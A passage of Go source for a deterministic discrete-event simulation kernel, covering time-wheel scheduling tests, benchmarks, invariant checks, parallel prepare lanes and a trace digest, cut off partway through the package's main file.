	allocsBefore := k.EventAllocs()
	k.Stop()
	if p := k.Pending(); p != 0 {
		t.Fatalf("Pending() = %d after Stop, want 0", p)
	}
	if got := len(k.freeEvents); got != n {
		t.Fatalf("freelist holds %d events after drain, want %d pooled events recycled", got, n)
	}
	if k.EventAllocs() != allocsBefore {
		t.Fatalf("drain allocated events: %d -> %d", allocsBefore, k.EventAllocs())
	}
	if k.Run() != 0 {
		t.Fatal("stopped kernel fired events")
	}
}

// TestStopDuringRunDrains covers the common shape: Stop called from inside a
// fired event while thousands of later events are still queued.
func TestStopDuringRunDrains(t *testing.T) {
	k := NewKernel(1)
	for i := 1; i <= 3000; i++ {
		k.Schedule(Time(i)*Millisecond, func() {})
	}
	fired := 0
	k.At(500*Microsecond, func() { fired++; k.Stop() })
	k.Run()
	if fired != 1 {
		t.Fatalf("fired = %d, want 1", fired)
	}
	if p := k.Pending(); p != 0 {
		t.Fatalf("Pending() = %d after mid-run Stop, want 0", p)
	}
	// The 3000 queued pooled events plus the one that fired all recycle.
	if got := len(k.freeEvents); got != 3000 {
		t.Fatalf("freelist holds %d events, want 3000", got)
	}
}

// TestCancelThenReuse pins the cancel/freelist interaction: cancelling a
// handle event must neither fire it nor disturb pooled-event recycling, and
// the pooled structs recycled around it must be reusable immediately.
func TestCancelThenReuse(t *testing.T) {
	k := NewKernel(1)
	k.SetInvariantChecks(true)
	fired := []string{}
	e := k.At(2*Millisecond, func() { fired = append(fired, "cancelled") })
	k.Schedule(Millisecond, func() { fired = append(fired, "a") })
	e.Cancel()
	k.Schedule(3*Millisecond, func() { fired = append(fired, "b") })
	k.Run()
	// Pooled structs from a and b are back on the freelist; reuse them.
	k.Schedule(k.Now(), func() { fired = append(fired, "c") })
	k.Run()
	if want := "a,b,c"; join(fired) != want {
		t.Fatalf("fired %q, want %q", join(fired), want)
	}
	if k.EventAllocs() != 2 {
		t.Fatalf("event allocs = %d, want 2 (cancel must not block reuse)", k.EventAllocs())
	}
}

func join(s []string) string {
	out := ""
	for i, v := range s {
		if i > 0 {
			out += ","
		}
		out += v
	}
	return out
}

// TestScheduleAtNowSameSlot pins the same-tick immediate fire: an event
// scheduled at exactly Now() from inside a firing event joins the imminent
// heap and fires after the current event, before anything later — even when
// the later event sits in the same wheel slot.
func TestScheduleAtNowSameSlot(t *testing.T) {
	k := NewKernel(1)
	var order []int
	k.At(Millisecond, func() {
		order = append(order, 1)
		k.Schedule(k.Now(), func() { order = append(order, 2) })
	})
	// Same slot as the 1ms event (sub-resolution delta), later tie-break.
	k.At(Millisecond+Nanosecond, func() { order = append(order, 3) })
	k.Run()
	if len(order) != 3 || order[0] != 1 || order[1] != 2 || order[2] != 3 {
		t.Fatalf("fire order = %v, want [1 2 3]", order)
	}
}

// TestOverflowPromotionOrder pins the far-future path: events beyond the
// wheel horizon — including same-timestamp ties and events exactly at the
// window boundary — must fire in (when, seq) order after promotion.
func TestOverflowPromotionOrder(t *testing.T) {
	k := NewKernel(1)
	horizon := Time(wheelSlots << slotShift)
	var order []int
	record := func(id int) func() { return func() { order = append(order, id) } }
	k.At(3*horizon, record(4))
	k.At(2*horizon, record(2))
	k.At(2*horizon, record(3)) // tie with the previous: seq order
	k.At(horizon+Time(1)<<slotShift, record(1))
	k.At(3*horizon+Millisecond, record(5))
	if len(k.overflow) == 0 {
		t.Fatal("far-future events did not land in the overflow heap")
	}
	k.Run()
	for i, id := range order {
		if id != i+1 {
			t.Fatalf("promotion order = %v, want [1 2 3 4 5]", order)
		}
	}
}

// TestWheelSlotSteadyState is the pool_test-style allocation pin for the
// wheel itself: once slot backing arrays, the imminent heap, and the event
// freelist have warmed through a full wheel revolution, a self-scheduling
// event storm must run allocation-free — no per-event slice growth anywhere.
func TestWheelSlotSteadyState(t *testing.T) {
	k := NewKernel(7)
	var chain func()
	chain = func() {
		// Jittered delays touch a spread of slots and, over a round, every
		// slot index as the cursor wraps the wheel.
		k.ScheduleAfter(200*Microsecond+k.RNG().Jitter(4*Millisecond), chain)
	}
	const chains = 32
	for i := 0; i < chains; i++ {
		chain()
	}
	// Warm every slot to the storm's worst case: each chain keeps exactly one
	// event in flight, so no slot can ever hold more than `chains` events.
	// Walking the cursor one tick at a time through a full revolution with a
	// burst of `chains` no-ops per tick caps every slot's backing array once —
	// steady state means storage bounded by wheel geometry × in-flight events,
	// never growing with events fired.
	steps := 0
	var warmup func()
	warmup = func() {
		if steps++; steps > wheelSlots+8 {
			return
		}
		for i := 0; i < chains; i++ {
			k.Schedule(k.Now()+Time(1)<<slotShift, func() {})
		}
		k.ScheduleAfter(Time(1)<<slotShift, warmup)
	}
	warmup()
	round := func() { k.RunFor(200 * Millisecond) } // > one wheel revolution
	round()                                         // warm heap/freelist capacities through one storm round
	allocsAfterWarmup := k.EventAllocs()
	if avg := testing.AllocsPerRun(5, round); avg > 0 {
		t.Fatalf("steady-state storm allocates %.1f times per round, want 0", avg)
	}
	if k.EventAllocs() != allocsAfterWarmup {
		t.Fatalf("event freelist grew after warmup: %d -> %d",
			allocsAfterWarmup, k.EventAllocs())
	}
}

// TestDrainedAtHandleCancelSafe: cancelling a handle after its event was
// dropped by a Stop drain must stay a safe no-op.
func TestDrainedAtHandleCancelSafe(t *testing.T) {
	k := NewKernel(1)
	e := k.At(Second, func() {})
	k.Stop()
	e.Cancel()
	if k.Pending() != 0 {
		t.Fatal("queue not empty")
	}
}

// TestSlotTableLazy pins the lazy slot-table allocation: a kernel whose
// events never land in the near-future wheel window — immediate fires and
// far-future overflow only — must never pay the ~100 KB table, while the
// first in-window insert allocates it exactly once.
func TestSlotTableLazy(t *testing.T) {
	k := NewKernel(1)
	if k.slots != nil {
		t.Fatal("NewKernel allocated the slot table eagerly")
	}
	k.Schedule(0, func() {})                                 // imminent tier
	k.Schedule(Time(2)<<slotShift*wheelSlots, func() {})     // overflow tier
	if k.slots != nil {
		t.Fatal("imminent/overflow inserts allocated the slot table")
	}
	k.Schedule(Time(1)<<slotShift, func() {}) // first in-window event
	if k.slots == nil {
		t.Fatal("in-window insert did not allocate the slot table")
	}
	if k.Run() != 3 {
		t.Fatalf("fired = %d, want all 3 queued events", k.fired)
	}
}
