package sim

import (
	"fmt"
	"testing"
)

// Kernel throughput benchmarks: self-scheduling event storms at several
// standing queue depths, reported as events/sec. BenchmarkRefHeapEventsPerSec
// runs the identical storm against the reference container/heap scheduler
// (differential_test.go), so the wheel's speedup at depth is a single
// benchstat comparison — the acceptance bar for the time-wheel swap is >=3x
// at 64k+ queued events.

// stormDelay is the storm's reschedule rule: a pure function of the event
// ordinal, so the wheel and reference benchmarks replay byte-identical
// workloads. Mostly in-window delays across the slot range, with ~1/64 of
// events thrown past the wheel horizon to keep the overflow tier hot.
func stormDelay(n uint64) Time {
	h := splitmix64(n)
	if h%64 == 0 {
		return 200*Millisecond + Time(h>>8%uint64(400*Millisecond))
	}
	return Time(h >> 8 % uint64(8*Millisecond))
}

func BenchmarkKernelEventsPerSec(b *testing.B) {
	for _, depth := range []int{1 << 10, 1 << 14, 1 << 16, 1 << 18} {
		b.Run(fmt.Sprintf("depth=%d", depth), func(b *testing.B) {
			k := NewKernel(1)
			var n uint64
			var storm func()
			storm = func() {
				n++
				k.ScheduleAfter(stormDelay(n), storm)
			}
			for i := 0; i < depth; i++ {
				storm()
			}
			// One full turnover warms slots, heaps, and the freelist.
			for i := 0; i < depth; i++ {
				k.step()
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				k.step()
			}
			b.StopTimer()
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/sec")
		})
	}
}

func BenchmarkRefHeapEventsPerSec(b *testing.B) {
	for _, depth := range []int{1 << 10, 1 << 14, 1 << 16, 1 << 18} {
		b.Run(fmt.Sprintf("depth=%d", depth), func(b *testing.B) {
			r := &refSched{}
			var n uint64
			var storm func()
			storm = func() {
				n++
				r.at(r.now+stormDelay(n), storm)
			}
			for i := 0; i < depth; i++ {
				storm()
			}
			for i := 0; i < depth; i++ {
				r.step()
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				r.step()
			}
			b.StopTimer()
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/sec")
		})
	}
}

// BenchmarkKernelSoak measures sustained simulated-time throughput: each
// iteration advances the clock one simulated second under a 4096-event
// standing storm, reported as simulated seconds per wall second. The bench
// doubles as the long-run flat-memory check: after warmup, the event pool
// must not grow no matter how long the soak runs.
func BenchmarkKernelSoak(b *testing.B) {
	k := NewKernel(7)
	var n uint64
	var storm func()
	storm = func() {
		n++
		k.ScheduleAfter(stormDelay(n), storm)
	}
	for i := 0; i < 4096; i++ {
		storm()
	}
	k.RunFor(Second) // warm slots, heaps, freelist
	allocsAfterWarmup := k.EventAllocs()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k.RunFor(Second)
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "simsec/wallsec")
	if k.EventAllocs() != allocsAfterWarmup {
		b.Fatalf("soak grew the event pool: %d -> %d allocs",
			allocsAfterWarmup, k.EventAllocs())
	}
}
