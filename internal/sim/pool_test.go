package sim

import "testing"

// TestScheduleReusesEvents proves the kernel freelist recycles pooled Event
// structs: after the first fire, every subsequent Schedule is served from the
// freelist with zero fresh allocations.
func TestScheduleReusesEvents(t *testing.T) {
	k := NewKernel(1)
	fired := 0
	for i := 0; i < 100; i++ {
		k.Schedule(Time(i)*Millisecond, func() { fired++ })
		k.Run()
	}
	if fired != 100 {
		t.Fatalf("fired = %d, want 100", fired)
	}
	if k.EventAllocs() != 1 {
		t.Fatalf("event allocs = %d, want 1 (freelist must recycle)", k.EventAllocs())
	}
	if k.EventReuses() != 99 {
		t.Fatalf("event reuses = %d, want 99", k.EventReuses())
	}
}

// TestScheduleReusesSameStruct pins the LIFO identity property: the struct
// recycled from the last fire is the one the next Schedule hands out.
func TestScheduleReusesSameStruct(t *testing.T) {
	k := NewKernel(1)
	k.Schedule(0, func() {})
	k.Run()
	if n := len(k.freeEvents); n != 1 {
		t.Fatalf("freelist len = %d, want 1", n)
	}
	recycled := k.freeEvents[0]
	k.Schedule(0, func() {})
	if k.cur[0] != recycled {
		t.Fatal("Schedule did not reuse the recycled event struct")
	}
	k.Run()
}

// TestAtEventsAreNotPooled pins the safety property that keeps held timer
// handles valid: events returned by At/After must never enter the freelist,
// because callers may Cancel them after they fired.
func TestAtEventsAreNotPooled(t *testing.T) {
	k := NewKernel(1)
	e := k.At(Millisecond, func() {})
	k.Run()
	if len(k.freeEvents) != 0 {
		t.Fatal("At event was recycled into the freelist")
	}
	e.Cancel() // must stay a safe no-op after firing
	k.Schedule(k.Now(), func() {})
	k.Run()
	if k.EventAllocs() != 1 {
		t.Fatalf("event allocs = %d, want 1", k.EventAllocs())
	}
}

// TestPooledEventsInterleaveWithTimers checks (when, seq) ordering is shared
// between pooled and handle events.
func TestPooledEventsInterleaveWithTimers(t *testing.T) {
	k := NewKernel(1)
	var order []int
	k.At(2*Millisecond, func() { order = append(order, 2) })
	k.Schedule(Millisecond, func() { order = append(order, 1) })
	k.ScheduleAfter(2*Millisecond, func() { order = append(order, 3) }) // same when, later seq
	k.Run()
	if len(order) != 3 || order[0] != 1 || order[1] != 2 || order[2] != 3 {
		t.Fatalf("fire order = %v, want [1 2 3]", order)
	}
}

// TestBufPoolPoisonFollowsChecks ties the pool's debug mode to the kernel's
// invariant-check switch (core.Config.Checks drives both).
func TestBufPoolPoisonFollowsChecks(t *testing.T) {
	k := NewKernel(1)
	k.SetInvariantChecks(true)
	b := k.BufPool().Get()
	b.Append([]byte("x"))
	b.Release()
	if s := k.BufPool().Stats(); s.Poisoned != 1 {
		t.Fatalf("poisoned = %d, want 1 with checks on", s.Poisoned)
	}
}
