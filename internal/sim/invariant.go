package sim

import "fmt"

// The invariant registry lets protocol packages attach structural
// self-checks to the kernel they run on: TCP sequence-window sanity, ARP
// cache consistency, netfilter conntrack pairing, WEP IV accounting. When
// checking is enabled every registered invariant runs after every fired
// event — the event boundary is the only point at which the simulation is in
// a quiescent, checkable state.
//
// Registration is cheap (one slice append), so components register
// unconditionally at construction; the checks themselves only run when
// enabled. Tests enable checking via Kernel.SetInvariantChecks(true) (or
// core.Config.Checks); cmd/roguesim exposes it behind -check.

// invariant is one registered check.
type invariant struct {
	name  string
	check func() error
}

// RegisterInvariant adds a named check to the kernel. The check must be a
// pure observation: it may not schedule events, mutate protocol state, or
// draw from the RNG. A nil error means the invariant holds.
func (k *Kernel) RegisterInvariant(name string, check func() error) {
	if check == nil {
		panic("sim: nil invariant check")
	}
	k.invariants = append(k.invariants, invariant{name: name, check: check})
}

// SetInvariantChecks enables or disables running registered invariants at
// every event boundary. Off by default: full checking is O(registered
// checks) per event. Enabling checks also arms the packet pool's
// poison-on-release mode, so a use-after-release write through a stale
// buffer view panics at the next allocation instead of corrupting a frame.
func (k *Kernel) SetInvariantChecks(on bool) {
	k.checkInvariants = on
	k.bufPool.SetPoison(on)
}

// InvariantChecksEnabled reports whether per-event checking is on.
// Components can consult this at construction time to decide whether to
// maintain optional accounting state (e.g. WEP IV reuse tracking).
func (k *Kernel) InvariantChecksEnabled() bool { return k.checkInvariants }

// InvariantViolation describes a failed invariant check.
type InvariantViolation struct {
	Name string
	At   Time
	Err  error
}

// Error implements error.
func (v *InvariantViolation) Error() string {
	return fmt.Sprintf("sim: invariant %q violated at t=%v: %v", v.Name, v.At, v.Err)
}

// runInvariants executes every registered check plus the kernel's own
// event-heap monotonicity invariant. The first violation is fatal: by
// default it panics (an invariant violation always indicates a bug, and the
// kernel cannot meaningfully continue); tests may install OnViolation to
// convert it into a test failure instead.
func (k *Kernel) runInvariants() {
	// Kernel invariant: the scheduler must never hold an event behind the
	// clock, and the wheel's structural bookkeeping must be consistent.
	if err := k.checkScheduler(); err != nil {
		k.violate(&InvariantViolation{Name: "sim/heap-monotonic", At: k.now, Err: err})
		return
	}
	for i := range k.invariants {
		inv := &k.invariants[i]
		if err := inv.check(); err != nil {
			k.violate(&InvariantViolation{Name: inv.name, At: k.now, Err: err})
			return
		}
	}
}

func (k *Kernel) violate(v *InvariantViolation) {
	if k.OnViolation != nil {
		k.OnViolation(v)
		return
	}
	panic(v.Error())
}
