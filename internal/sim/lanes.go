package sim

import (
	"sync"
	"sync/atomic"
)

// Conservative-window execution (DESIGN.md §14).
//
// The serial loop is the determinism contract: events fire one at a time in
// strict (when, seq) order, sharing one RNG stream and one streaming trace
// digest. True per-lane event execution would have to split that stream, so
// the windowed loop parallelizes differently: it slices virtual time into
// conservative windows and, for each window, runs the *prepare* halves of the
// window's events concurrently before committing every event serially.
//
//	for each window:
//	  horizon = min(next event time + lookahead, deadline)
//	  collect prepare-bearing events with when <= horizon   (read-only scan)
//	  run their prep hooks across the lanes                 (parallel)
//	  step() every event with when <= horizon               (serial commit)
//
// The lookahead is the guaranteed minimum delay between scheduling a
// preparable event and its fire time (the medium's minimum frame airtime):
// any preparable event scheduled *during* a window's commit phase lands at or
// beyond that window's horizon, so the next window's collection scan sees it.
// Events spawned mid-window with earlier fire times simply commit unprepared
// — prep hooks are speculative, and the committing callback revalidates or
// recomputes, so lookahead is purely a throughput knob.
//
// The barrier between the prepare and commit phases is a WaitGroup the main
// goroutine waits on; lanes pull batch indices from a shared atomic cursor
// (work stealing), which keeps the partition balanced without caring which
// lane prepares which event. Because prepares never mutate shared state and
// commits happen only after the barrier, the loop is race-free by
// construction and the commit order — hence the digest — is byte-identical
// to the serial loop at any GOMAXPROCS and any worker count.

// minParallelPreps is the smallest prepare batch worth dispatching to worker
// goroutines; below it the channel handoff costs more than the overlap buys.
const minParallelPreps = 2

// runWindowed is the conservative-window loop behind Run/RunUntil when
// SetWorkers enabled it. It fires every event with when <= deadline and
// returns with the clock at the last committed event (the caller clamps the
// clock up to the deadline, mirroring the serial loop).
func (k *Kernel) runWindowed(deadline Time) {
	if k.workers > 1 && k.pool == nil {
		// The pool lives only for this call: experiment sweeps build
		// thousands of kernels, and parked goroutines must not outlive the
		// run that needed them. A nested Run from inside an event reuses the
		// outer pool.
		k.pool = newPrepPool(k.workers - 1)
		defer func() {
			k.pool.close()
			k.pool = nil
		}()
	}
	for !k.stopped {
		next, ok := k.peekWhen()
		if !ok || next > deadline {
			return
		}
		horizon := next + k.lookahead
		if horizon > deadline || horizon < next { // min(), overflow-safe
			horizon = deadline
		}
		k.collectPreps(horizon)
		k.runPreps()
		for !k.stopped {
			w, ok := k.peekWhen()
			if !ok || w > horizon {
				break
			}
			k.step()
		}
	}
}

// collectPreps gathers the prepare-bearing events due at or before horizon
// into prepBatch. The scan is strictly read-only: events stay queued in their
// tiers and are committed later by the ordinary step() path, so a mid-window
// Stop drains and recycles them exactly once through drainQueue. Only the
// imminent heap and the wheel window are scanned — overflow events are at
// least a full wheel span away, far beyond any practical lookahead, and would
// be collected after promotion anyway.
func (k *Kernel) collectPreps(horizon Time) {
	b := k.prepBatch[:0]
	for _, e := range k.cur {
		if e.prep != nil && !e.cancelled && e.when <= horizon {
			b = append(b, e)
		}
	}
	if k.wheelCount > 0 {
		hTick := tickOf(horizon)
		if maxTick := k.cursor + wheelSlots; hTick > maxTick {
			hTick = maxTick
		}
		for tk := k.cursor + 1; tk <= hTick; tk++ {
			s := tk & wheelMask
			if k.occ[s>>6]&(1<<uint(s&63)) == 0 {
				continue
			}
			for _, e := range k.slots[s] {
				if e.prep != nil && !e.cancelled && e.when <= horizon {
					b = append(b, e)
				}
			}
		}
	}
	k.prepBatch = b
}

// runPreps executes the collected prepare hooks: inline when the batch is
// tiny or the kernel has a single lane, otherwise fanned out across the pool
// with the main goroutine stealing alongside the workers. Returns only after
// every prep has completed (the window barrier).
func (k *Kernel) runPreps() {
	batch := k.prepBatch
	if len(batch) == 0 {
		return
	}
	if k.pool == nil || len(batch) < minParallelPreps {
		for _, e := range batch {
			e.prep()
		}
	} else {
		k.pool.run(batch)
	}
	for i := range batch {
		batch[i] = nil
	}
	k.prepBatch = batch[:0]
}

// prepPool is a set of parked prepare lanes. One job — a batch plus a shared
// index cursor — is broadcast per window; lanes steal indices until the batch
// is exhausted. All synchronization is channel/WaitGroup based, so every
// prepare happens-before the barrier release and the subsequent commits.
type prepPool struct {
	jobs chan prepJob
	n    int
	wg   sync.WaitGroup // lane lifetimes, for close()
}

type prepJob struct {
	batch []*Event
	next  *atomic.Int64
	done  *sync.WaitGroup
}

func newPrepPool(n int) *prepPool {
	p := &prepPool{jobs: make(chan prepJob), n: n}
	p.wg.Add(n)
	for i := 0; i < n; i++ {
		go func() {
			defer p.wg.Done()
			for j := range p.jobs {
				prepSteal(j.batch, j.next)
				j.done.Done()
			}
		}()
	}
	return p
}

// run executes every prep in batch across the pool plus the calling
// goroutine, returning when all are done.
func (p *prepPool) run(batch []*Event) {
	var next atomic.Int64
	var done sync.WaitGroup
	done.Add(p.n)
	job := prepJob{batch: batch, next: &next, done: &done}
	for i := 0; i < p.n; i++ {
		p.jobs <- job
	}
	prepSteal(batch, &next)
	done.Wait()
}

// prepSteal claims batch indices from the shared cursor until none remain.
func prepSteal(batch []*Event, next *atomic.Int64) {
	for {
		i := int(next.Add(1)) - 1
		if i >= len(batch) {
			return
		}
		batch[i].prep()
	}
}

func (p *prepPool) close() {
	close(p.jobs)
	p.wg.Wait()
}
