package sim

// The trace digest is a streaming FNV-1a hash over the kernel's ordered
// event/observation stream. Two runs of the same scenario with the same seed
// must produce identical digests; any divergence means hidden nondeterminism
// (map-iteration ordering, wall-clock leakage, cross-world state). The digest
// is cheap enough to leave always-on: every fired event mixes its timestamp
// and scheduling sequence number, and protocol layers mix the bytes of every
// delivered frame via MixDigest.
//
// internal/check builds its determinism assertions on top of this.

const (
	fnvOffset64 uint64 = 14695981039346656037
	fnvPrime64  uint64 = 1099511628211
)

// traceDigest is the streaming hash state.
type traceDigest struct {
	h uint64
	// mixed counts observations folded in, so an empty digest and a
	// colliding digest can never be confused in test output.
	mixed uint64
}

func newTraceDigest() traceDigest { return traceDigest{h: fnvOffset64} }

func (d *traceDigest) mixByte(b byte) {
	d.h = (d.h ^ uint64(b)) * fnvPrime64
}

func (d *traceDigest) mixUint64(v uint64) {
	for i := 0; i < 64; i += 8 {
		d.mixByte(byte(v >> i))
	}
}

func (d *traceDigest) mixBytes(p []byte) {
	for _, b := range p {
		d.mixByte(b)
	}
}

// mixString mixes a length-prefixed string so "ab"+"c" != "a"+"bc".
func (d *traceDigest) mixString(s string) {
	d.mixUint64(uint64(len(s)))
	for i := 0; i < len(s); i++ {
		d.mixByte(s[i])
	}
}

// Digest reports the current trace digest: a hash of every event fired and
// every observation mixed so far. Equal seeds must yield equal digests at
// equal points in virtual time; see check.AssertDeterministic.
func (k *Kernel) Digest() uint64 { return k.digest.h }

// DigestObservations reports how many observations (events + MixDigest
// calls) the digest covers.
func (k *Kernel) DigestObservations() uint64 { return k.digest.mixed }

// MixDigest folds a labelled observation — typically a delivered packet or
// frame — into the kernel's trace digest. kind names the observation source
// ("phy/rx", "eth/rx", ...); data is the observed bytes. The current virtual
// time is mixed automatically.
func (k *Kernel) MixDigest(kind string, data []byte) {
	k.digest.mixed++
	k.digest.mixUint64(uint64(k.now))
	k.digest.mixString(kind)
	k.digest.mixUint64(uint64(len(data)))
	k.digest.mixBytes(data)
}

// mixEvent folds one fired event into the digest: its virtual time and its
// scheduling sequence number (which captures causal ordering exactly).
func (k *Kernel) mixEvent(e *Event) {
	k.digest.mixed++
	k.digest.mixUint64(uint64(e.when))
	k.digest.mixUint64(e.seq)
}
