package sim

import (
	"fmt"
	"sync/atomic"
	"testing"
)

// TestWindowedDigestMatchesSerial runs an identical event script on a serial
// kernel and on windowed kernels at several worker counts; the trace digests
// — which mix every fired event's (when, seq) — must be byte-identical, and
// the prepare hooks must actually have run.
func TestWindowedDigestMatchesSerial(t *testing.T) {
	build := func(k *Kernel, prepped *atomic.Int64) {
		// A self-rescheduling chain whose links each spawn a same-tick burst
		// of leaf events, spanning several lookahead windows per link.
		var chain func(round int) func()
		chain = func(round int) func() {
			return func() {
				if round >= 50 {
					return
				}
				for i := 0; i < 4; i++ {
					d := Time(round*7+i) * 10 * Microsecond
					k.SchedulePrep(k.Now()+d, func() {}, func() { prepped.Add(1) })
				}
				k.SchedulePrep(k.Now()+350*Microsecond, chain(round+1), func() { prepped.Add(1) })
			}
		}
		k.Schedule(0, chain(0))
	}
	var wantDigest uint64
	var wantFired uint64
	for _, workers := range []int{0, 1, 2, 4} {
		k := NewKernel(1)
		k.SetWorkers(workers)
		k.SetLookahead(192 * Microsecond)
		var prepped atomic.Int64
		build(k, &prepped)
		fired := k.RunFor(Second)
		if workers == 0 {
			wantDigest, wantFired = k.Digest(), fired
			continue
		}
		if k.Digest() != wantDigest {
			t.Errorf("workers=%d digest %#x, serial %#x", workers, k.Digest(), wantDigest)
		}
		if fired != wantFired {
			t.Errorf("workers=%d fired %d events, serial %d", workers, fired, wantFired)
		}
		if prepped.Load() == 0 {
			t.Errorf("workers=%d: no prepare hook ever ran", workers)
		}
	}
}

// TestWindowedRunUntilClock pins RunUntil's contract under the windowed loop:
// the clock lands exactly on the deadline, later events stay queued, and a
// subsequent run fires them.
func TestWindowedRunUntilClock(t *testing.T) {
	k := NewKernel(1)
	k.SetWorkers(2)
	k.SetLookahead(100 * Microsecond)
	var fired []Time
	for _, d := range []Time{Millisecond, 2 * Millisecond, 5 * Millisecond} {
		d := d
		k.SchedulePrep(d, func() { fired = append(fired, k.Now()) }, func() {})
	}
	k.RunUntil(3 * Millisecond)
	if k.Now() != 3*Millisecond {
		t.Fatalf("clock at %v, want exactly 3ms", k.Now())
	}
	if len(fired) != 2 {
		t.Fatalf("fired %d events before the deadline, want 2", len(fired))
	}
	if k.Pending() != 1 {
		t.Fatalf("%d events pending after RunUntil, want 1", k.Pending())
	}
	k.Run()
	if len(fired) != 3 || fired[2] != 5*Millisecond {
		t.Fatalf("late event fired %v, want 5ms (log %v)", fired[len(fired)-1], fired)
	}
}

// TestWindowedStopRecyclesPendingOnce is the regression test for the
// Stop/drain audit under the windowed loop: prepare collection must leave
// events queued in their tiers (a read-only scan), so a mid-window Stop
// recycles every pooled pending event into the freelist exactly once — no
// event lost to a stale prepare batch, none recycled twice.
func TestWindowedStopRecyclesPendingOnce(t *testing.T) {
	for _, workers := range []int{1, 2, 4} {
		t.Run(fmt.Sprintf("workers=%d", workers), func(t *testing.T) {
			k := NewKernel(1)
			k.SetWorkers(workers)
			k.SetLookahead(500 * Microsecond)
			// Fill every tier with preparable events: some inside the first
			// window (collected into the prepare batch before the stop), some
			// beyond it, some past the wheel horizon.
			for i := 0; i < 32; i++ {
				k.SchedulePrep(Time(i)*20*Microsecond, func() {}, func() {})
			}
			k.SchedulePrep(10*Millisecond, func() {}, func() {})
			k.SchedulePrep(10*Second, func() {}, func() {})
			// The stop fires mid-window, with collected-but-unfired prepare
			// events still queued.
			k.SchedulePrep(100*Microsecond, func() { k.Stop() }, func() {})
			k.Run()
			seen := make(map[*Event]bool, len(k.freeEvents))
			for _, e := range k.freeEvents {
				if seen[e] {
					t.Fatalf("event %p recycled twice", e)
				}
				seen[e] = true
			}
			if got, want := uint64(len(k.freeEvents)), k.eventAllocs; got != want {
				t.Fatalf("freelist holds %d events after Stop, want all %d allocated", got, want)
			}
			if k.Pending() != 0 {
				t.Fatalf("%d events still pending after Stop", k.Pending())
			}
		})
	}
}

// TestScheduleBatchMatchesSequential pins ScheduleBatch's contract directly:
// bulk insertion is observationally identical — fire order, digest, clock —
// to one Schedule call per entry.
func TestScheduleBatchMatchesSequential(t *testing.T) {
	delays := []Time{
		0, 0, 0, // at-now: imminent heap
		40 * Microsecond, 40 * Microsecond, 41 * Microsecond, // shared ticks
		3 * Millisecond, 3 * Millisecond, // shared slot later in the window
		10 * Second, 10 * Second, // overflow
		50 * Microsecond, // back to an earlier tick after overflow
	}
	run := func(batch bool) (log []int, digest uint64) {
		k := NewKernel(1)
		if batch {
			entries := make([]BatchEntry, len(delays))
			for i, d := range delays {
				i := i
				entries[i] = BatchEntry{When: d, Fn: func() { log = append(log, i) }}
			}
			k.ScheduleBatch(entries)
		} else {
			for i, d := range delays {
				i := i
				k.Schedule(d, func() { log = append(log, i) })
			}
		}
		k.Run()
		return log, k.Digest()
	}
	seqLog, seqDigest := run(false)
	batchLog, batchDigest := run(true)
	if len(seqLog) != len(delays) {
		t.Fatalf("sequential run fired %d of %d events", len(seqLog), len(delays))
	}
	if fmt.Sprint(seqLog) != fmt.Sprint(batchLog) {
		t.Fatalf("fire order diverged: sequential %v, batch %v", seqLog, batchLog)
	}
	if seqDigest != batchDigest {
		t.Fatalf("digest diverged: sequential %#x, batch %#x", seqDigest, batchDigest)
	}
}

// TestScheduleBatchPanics pins the validation semantics: a past or nil entry
// panics exactly like Schedule, and entries before the bad one stay queued.
func TestScheduleBatchPanics(t *testing.T) {
	k := NewKernel(1)
	k.Schedule(Millisecond, func() {})
	k.RunFor(2 * Millisecond)
	func() {
		defer func() {
			if recover() == nil {
				t.Fatal("past entry did not panic")
			}
		}()
		k.ScheduleBatch([]BatchEntry{
			{When: 3 * Millisecond, Fn: func() {}},
			{When: Millisecond, Fn: func() {}}, // in the past
		})
	}()
	if k.Pending() != 1 {
		t.Fatalf("%d events pending after partial batch, want the 1 valid entry", k.Pending())
	}
	func() {
		defer func() {
			if recover() == nil {
				t.Fatal("nil Fn did not panic")
			}
		}()
		k.ScheduleBatch([]BatchEntry{{When: 4 * Millisecond}})
	}()
}
