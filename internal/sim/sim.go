// Package sim provides the discrete-event simulation kernel that every other
// substrate in this repository runs on.
//
// A Kernel owns a virtual clock and a priority queue of pending events.
// Nothing in the simulation touches wall-clock time or host I/O: all protocol
// timers (beacon intervals, TCP retransmission timeouts, ARP cache aging, VPN
// rekeys) are events on this queue, which makes every run deterministic for a
// given seed and very fast — a simulated minute of 802.11 traffic executes in
// milliseconds.
//
// Event *commits* are deliberately single-goroutine: one World, one serial
// commit loop, so protocol code stays free of locks and results reproducible.
// Parallelism happens *across* independent kernels (see core.Sweep) and — when
// SetWorkers enables the conservative-window loop (lanes.go) — inside one
// kernel via speculative prepare callbacks that precompute the read-only part
// of upcoming events without touching shared state, RNG, or the trace digest.
package sim

import (
	"fmt"
	"math"
	"time"

	"repro/internal/pkt"
)

// Time is a virtual timestamp, measured as a duration since the simulation
// epoch (t=0). It is a distinct type so that virtual and wall-clock times can
// never be mixed accidentally.
type Time time.Duration

// Common virtual-time constants re-exported for convenience.
const (
	Nanosecond  Time = Time(time.Nanosecond)
	Microsecond Time = Time(time.Microsecond)
	Millisecond Time = Time(time.Millisecond)
	Second      Time = Time(time.Second)
	Minute      Time = Time(time.Minute)
	Hour        Time = Time(time.Hour)
)

// MaxTime is the largest representable virtual time; used as "never".
const MaxTime Time = Time(math.MaxInt64)

// Duration converts t to a time.Duration since the simulation epoch.
func (t Time) Duration() time.Duration { return time.Duration(t) }

// Seconds reports t as a floating-point number of seconds.
func (t Time) Seconds() float64 { return time.Duration(t).Seconds() }

// Add returns t shifted by d.
func (t Time) Add(d Time) Time { return t + d }

// Sub returns the interval t-u.
func (t Time) Sub(u Time) Time { return t - u }

// String formats the timestamp with time.Duration semantics.
func (t Time) String() string { return time.Duration(t).String() }

// Event is a scheduled callback. Events fire in timestamp order; ties break
// by scheduling order (FIFO), which keeps causally related events stable.
type Event struct {
	when Time
	seq  uint64 // tie-break: insertion order
	fn   func()
	// prep, if non-nil, is a speculative precompute hook (SchedulePrep): the
	// conservative-window loop may run it — possibly on a worker goroutine,
	// possibly never — any time before fn fires. It must be pure with respect
